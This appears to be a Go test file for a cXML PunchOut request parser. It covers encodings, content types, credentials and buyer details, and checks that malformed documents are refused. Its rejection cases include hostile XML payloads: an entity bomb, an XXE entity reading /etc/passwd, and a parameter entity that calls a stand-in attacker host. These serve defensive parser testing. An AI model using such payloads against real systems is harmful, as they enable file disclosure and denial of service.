package cxml_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/punchgate/punchgate/adapters/formats/cxml"
	"github.com/punchgate/punchgate/application/port"
	"github.com/punchgate/punchgate/domain/cart"
	"github.com/punchgate/punchgate/domain/connection"
	"github.com/punchgate/punchgate/domain/fault"
)

const hidden = "hunter2"

// setup is a PunchOutSetupRequest with these members after the cookie.
func setup(operation, members string) string {
	return wrapped(`<Request><PunchOutSetupRequest operation="` + operation + `"><BuyerCookie>c</BuyerCookie>` +
		members + `</PunchOutSetupRequest></Request>`)
}

func wrapped(body string) string {
	return `<cXML payloadID="1" timestamp="x"><Header>` +
		`<From><Credential domain="DUNS"><Identity>1</Identity></Credential></From>` +
		`<To><Credential domain="DUNS"><Identity>2</Identity></Credential></To>` +
		`<Sender><Credential domain="DUNS"><Identity>1</Identity><SharedSecret>` + hidden + `</SharedSecret></Credential><UserAgent>x</UserAgent></Sender>` +
		`</Header>` + body + `</cXML>`
}

func TestStartCallsAreFormsOrDocuments(t *testing.T) {
	const query = "USERNAME=u&PASSWORD=p&HOOK_URL=https://b.example.com/"
	xml := setup("create", "")
	for name, c := range map[string]struct {
		options, contentType, body string
		document                   bool
	}{
		"a form by its type":                   {"", "application/x-www-form-urlencoded", query, false},
		"a form without a type":                {"", "", query, false},
		"a document by its type":               {"", "text/xml; charset=UTF-8", xml, true},
		"a document of an application's type":  {"", "application/xml", xml, true},
		"a document of a type of its own":      {"", "application/cxml+xml", xml, true},
		"a document as text/html":              {"", "text/html", "\r\n " + xml, true},
		"a document after a mark":              {"", "text/html", "\xEF\xBB\xBF" + xml, true},
		"a document where only they are taken": {`{"start":"cxml-setup"}`, "text/plain", xml, true},
		"a form where only they are taken":     {`{"start":"form"}`, "application/x-www-form-urlencoded", query, false},
	} {
		t.Run(name, func(t *testing.T) {
			f := cxml.NewProceedo()
			r := port.StartRequest{Method: "POST", ContentType: c.contentType, Body: []byte(c.body), Options: json.RawMessage(c.options)}
			call, err := f.DecodeLogin(r)
			if err != nil {
				t.Fatal(err)
			}
			if f.AnswersDocument(r) != c.document || (call.Document == "PunchOutSetupRequest") != c.document || call.Operation != "create" {
				t.Errorf("got %q, answers by document: %v", call.Document, f.AnswersDocument(r))
			}
		})
	}
}

func TestAFormWhereDocumentsAreExpectedIsRefused(t *testing.T) {
	r := port.StartRequest{Method: "GET", Query: "USERNAME=u&PASSWORD=p", Options: json.RawMessage(`{"start":"cxml-setup"}`)}
	if _, err := cxml.NewProceedo().DecodeLogin(r); fault.KindOf(err) != fault.Malformed {
		t.Errorf("got %v", err)
	}
}

func TestOptionsThatAreRefusedStopTheStartCall(t *testing.T) {
	r := port.StartRequest{Method: "GET", Options: json.RawMessage(`{"start":"fax"}`)}
	if _, err := cxml.NewProceedo().DecodeLogin(r); fault.KindOf(err) != fault.Invalid {
		t.Errorf("got %v", err)
	}
}

func TestDocumentsAreReadInTheirEncoding(t *testing.T) {
	utf16Bytes := func(s string, low, high int) []byte {
		var b []byte
		for _, unit := range utf16.Encode([]rune(s)) {
			pair := [2]byte{}
			pair[low], pair[high] = byte(unit), byte(unit>>8)
			b = append(b, pair[:]...)
		}
		return b
	}
	person := `<Extrinsic name="UserFullName">Ä` + "€" + `</Extrinsic>`
	text := setup("create", person)
	single := func(declaration string, euro byte) []byte {
		b := []byte(declaration + text)
		b = bytes.ReplaceAll(b, []byte("Ä"), []byte{0xC4})
		return bytes.ReplaceAll(b, []byte("€"), []byte{euro})
	}
	for name, body := range map[string][]byte{
		"UTF-8 without a declaration":      []byte(text),
		"UTF-8 after a mark":               []byte("\xEF\xBB\xBF" + `<?xml version="1.0" encoding="utf-8"?>` + text),
		"ISO-8859-15, with blanks":         single(`<?xml version = '1.0' encoding = 'ISO-8859-15' standalone = 'no'?>`, 0xA4),
		"windows-1252":                     single(`<?xml version="1.0" encoding="Windows-1252"?>`, 0x80),
		"windows-1252 that says otherwise": single(`<?xml version="1.0" encoding="ISO-8859-1"?>`, 0x80),
		"UTF-16, big end first":            utf16Bytes("\uFEFF"+`<?xml version="1.0" encoding="UTF-16"?>`+text, 1, 0),
		"UTF-16, little end first":         utf16Bytes("\uFEFF"+`<?xml version="1.0" encoding="UTF-16"?>`+text, 0, 1),
		"UTF-16 without a mark":            utf16Bytes(`<?xml version="1.0" encoding="UTF-16"?>`+text, 1, 0),
		"UTF-16LE without a mark":          utf16Bytes(`<?xml version="1.0" encoding="UTF-16LE"?>`+text, 0, 1),
		"UTF-8 that says UTF-16":           []byte(`<?xml version="1.0" encoding="UTF-16"?>` + text),
	} {
		t.Run(name, func(t *testing.T) {
			call, err := cxml.NewProceedo().DecodeLogin(document(body))
			if err != nil || call.Person.Name != "Ä€" {
				t.Errorf("got %q, %v", call.Person.Name, err)
			}
		})
	}
}

func TestDocumentsThatAreNotReadableAreRefusedWithTheirLine(t *testing.T) {
	deep := func(n int) string { return strings.Repeat("<a>", n) + strings.Repeat("</a>", n) }
	for name, c := range map[string]struct{ body, says string }{
		"nothing":                             {"", "line 1"},
		"an end in the middle":                {"<cXML>\n<Header>", "line 2"},
		"a wrong end tag":                     {"<cXML>\n\n</Header></cXML>", "line 3"},
		"a bare ampersand":                    {wrapped("\n<Request>" + hidden + "&" + hidden + ";</Request>"), "line 2"},
		"an entity of its own":                {"<!DOCTYPE cXML [<!ENTITY e \"x\">]>\n<cXML>&e;</cXML>", "line 1"},
		"an entity bomb":                      {entityBomb, "DOCTYPE"},
		"an external entity":                  {externalEntity, "DOCTYPE"},
		"a parameter entity":                  {"<!DOCTYPE cXML [<!ENTITY % p SYSTEM \"http://attacker.example.com/\"> %p;]><cXML/>", "DOCTYPE"},
		"a DOCTYPE inside":                    {"<cXML><!DOCTYPE cXML></cXML>", "out of place"},
		"another declaration":                 {"<!ENTITY e \"x\"><cXML/>", "out of place"},
		"a doubled attribute":                 {"<cXML a='1' a='2'/>", "twice"},
		"very many attributes":                {"<cXML" + attributes(101) + "/>", "too many attributes"},
		"two root elements":                   {"<cXML/><cXML/>", "second root"},
		"text after the end":                  {"<cXML/>" + hidden, "outside"},
		"elements nested too deep":            {deep(101), "too deep"},
		"broken UTF-8":                        {"<cXML>\xE5</cXML>", "encoding"},
		"a character that XML has not":        {"<cXML>&#1;</cXML>", "cannot hold"},
		"an encoding that is not known":       {`<?xml version="1.0" encoding="EBCDIC-FR"?><cXML/>`, "encoding"},
		"XML 1.1":                             {`<?xml version="1.1"?><cXML/>`, "not XML 1.0"},
		"HTML":                                {"<html><br></html>", "end tag"},
		"an attribute without quotation mark": {"<cXML a=" + hidden + "/>", "well-formed"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := cxml.NewProceedo().DecodeLogin(document([]byte(c.body)))
			f := fault.From(err)
			if f == nil || f.Kind != fault.Malformed || f.Code != "cxml.not_readable" || !strings.Contains(err.Error(), c.says) || !strings.Contains(err.Error(), "line ") {
				t.Errorf("got %v", err)
			}
			if err != nil && strings.Contains(err.Error(), hidden) {
				t.Errorf("%q quotes the document", err)
			}
		})
	}
}

const (
	entityBomb = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">` +
		`<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><cXML>&lol3;</cXML>`
	externalEntity = `<?xml version="1.0"?><!DOCTYPE cXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><cXML>&xxe;</cXML>`
)

func attributes(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(" a" + strings.Repeat("x", i) + "='1'")
	}
	return b.String()
}

func TestElementsMayBeNestedAsDeepAsTheLimit(t *testing.T) {
	// cXML, Request, PunchOutSetupRequest and Extrinsic are four of a hundred
	deep := `<Extrinsic name="x">` + strings.Repeat("<a>", 96) + "v" + strings.Repeat("</a>", 96) + `</Extrinsic>`
	call, err := cxml.NewProceedo().DecodeLogin(document([]byte(setup("create", deep))))
	if err != nil || call.Extrinsics["x"] != "v" {
		t.Errorf("got %v, %v", call.Extrinsics, err)
	}
}

func TestDocumentsOfVeryManyElementsAreRefused(t *testing.T) {
	_, err := cxml.NewProceedo().DecodeLogin(document([]byte("<cXML>" + strings.Repeat("<a/>", 500_000) + "</cXML>")))
	if fault.KindOf(err) != fault.TooLarge {
		t.Errorf("got %v", err)
	}
}

func TestStartDocumentsThatCannotBeServedAreRefused(t *testing.T) {
	for name, c := range map[string]struct {
		body, code string
		kind       fault.Kind
		document   string
	}{
		"another root":              {"<Order/>", "cxml.not_cxml", fault.Malformed, ""},
		"no request":                {wrapped(""), "cxml.missing", fault.Malformed, ""},
		"no header":                 {`<cXML><Request><PunchOutSetupRequest operation="create"/></Request></cXML>`, "cxml.missing", fault.Malformed, "PunchOutSetupRequest"},
		"no cookie":                 {wrapped(`<Request><PunchOutSetupRequest operation="create"/></Request>`), "cxml.missing", fault.Malformed, "PunchOutSetupRequest"},
		"no operation":              {setup("", ""), "cxml.missing", fault.Malformed, "PunchOutSetupRequest"},
		"an unknown operation":      {setup("browse", ""), "cxml.value", fault.Malformed, "PunchOutSetupRequest"},
		"the operation source":      {setup("source", ""), "cxml.operation_unsupported", fault.Unsupported, "PunchOutSetupRequest"},
		"a quantity in words":       {setup("edit", `<ItemOut quantity="two"/>`), "cxml.value", fault.Malformed, "PunchOutSetupRequest"},
		"a price with a comma":      {setup("edit", `<ItemOut quantity="2"><ItemDetail><UnitPrice><Money currency="SEK">1,50</Money></UnitPrice></ItemDetail></ItemOut>`), "cxml.value", fault.Malformed, "PunchOutSetupRequest"},
		"an order without a header": {wrapped(`<Request><OrderRequest/></Request>`), "cxml.missing", fault.Malformed, "OrderRequest"},
		"a confirmation":            {wrapped(`<Request><ConfirmationRequest/></Request>`), "cxml.document_unsupported", fault.Unsupported, "ConfirmationRequest"},
		"a cart":                    {wrapped(`<Message><Status code="200" text="OK"/><PunchOutOrderMessage/></Message>`), "cxml.document_unsupported", fault.Unsupported, "PunchOutOrderMessage"},
		"more lines than a cart's":  {setup("edit", strings.Repeat(`<ItemOut quantity="1"/>`, cart.MaxLines+1)), "cart.too_many_lines", fault.TooLarge, "PunchOutSetupRequest"},
	} {
		t.Run(name, func(t *testing.T) {
			call, err := cxml.NewProceedo().DecodeLogin(document([]byte(c.body)))
			f := fault.From(err)
			if f == nil || f.Kind != c.kind || f.Code != c.code || call.Document != c.document {
				t.Errorf("got %v (%+v), document %q", err, f, call.Document)
			}
			if err != nil && strings.Contains(err.Error(), hidden) {
				t.Errorf("%q shows the secret", err)
			}
			if c.document != "" && c.code != "cxml.missing" && (call.Presented.Password.Reveal() != hidden || len(call.Presented.From) != 1) {
				t.Errorf("the credentials are not returned: %+v", call.Presented)
			}
		})
	}
}

func TestCredentialsAreReadAsTheyAre(t *testing.T) {
	call, err := cxml.NewProceedo().DecodeLogin(document([]byte(setup("create", ""))))
	if err != nil {
		t.Fatal(err)
	}
	p := call.Presented
	if p.Password.Reveal() != hidden || p.From[0] != (connection.Identity{Domain: "DUNS", ID: "1"}) || p.To[0].ID != "2" || p.Sender[0].ID != "1" {
		t.Errorf("got %+v", p)
	}
}

func TestThePersonIsGatheredFromWhereBuyersPutIt(t *testing.T) {
	for name, c := range map[string]struct {
		members string
		want    port.Person
	}{
		"nowhere": {"", port.Person{}},
		"a contact without a role": {
			`<Contact><Name>A B</Name><Email>a@example.com</Email></Contact>`,
			port.Person{Name: "A B", Email: "a@example.com"},
		},
		"the end user among contacts": {
			`<Contact role="buyer"><Name>X</Name></Contact><Contact role="EndUser"><Name>A B</Name></Contact>`, port.Person{Name: "A B"},
		},
		"Jaggaer's role": {
			`<Contact role="buyer"><Name>X</Name></Contact><Contact role="User"><Name>A B</Name></Contact>`, port.Person{Name: "A B"},
		},
		"first and last name, with the login name as contact": {
			`<Extrinsic name="FirstName">A</Extrinsic><Extrinsic name="LastName">B</Extrinsic><Extrinsic name="UserEmail">a@example.com</Extrinsic>` +
				`<Contact role="endUser"><Name>ab1</Name><Email>a@example.com</Email></Contact>`,
			port.Person{Name: "A B", Email: "a@example.com"},
		},
		"a full name": {`<Extrinsic name="userfullname">A B</Extrinsic><Extrinsic name="User">ab1</Extrinsic>`, port.Person{Name: "A B"}},
		"a login name, for want of another": {
			`<Extrinsic name="User">ab1</Extrinsic><Extrinsic name="PhoneNumber">123</Extrinsic>`, port.Person{Name: "ab1", Phone: "123"},
		},
		"the delivery address's e-mail": {`<ShipTo><Address><Name>X</Name><Email>a@example.com</Email></Address></ShipTo>`, port.Person{Email: "a@example.com"}},
	} {
		t.Run(name, func(t *testing.T) {
			call, err := cxml.NewProceedo().DecodeLogin(document([]byte(setup("create", c.members))))
			if err != nil || call.Person != c.want {
				t.Errorf("got %+v, %v; want %+v", call.Person, err, c.want)
			}
		})
	}
}

func TestErrorsOfTheReaderAreNotTheDocumentsFault(t *testing.T) {
	broken := errors.New("connection reset")
	f := cxml.NewProceedo()
	if _, err := f.DecodeOrder(failing{broken}); !errors.Is(err, broken) {
		t.Errorf("DecodeOrder: got %v", err)
	}
	if findings, err := f.Validate(failing{broken}); !errors.Is(err, broken) || findings != nil {
		t.Errorf("Validate: got %v, %v", findings, err)
	}
}

type failing struct{ err error }

func (f failing) Read(p []byte) (int, error) { return copy(p, "<cXML>"), f.err }
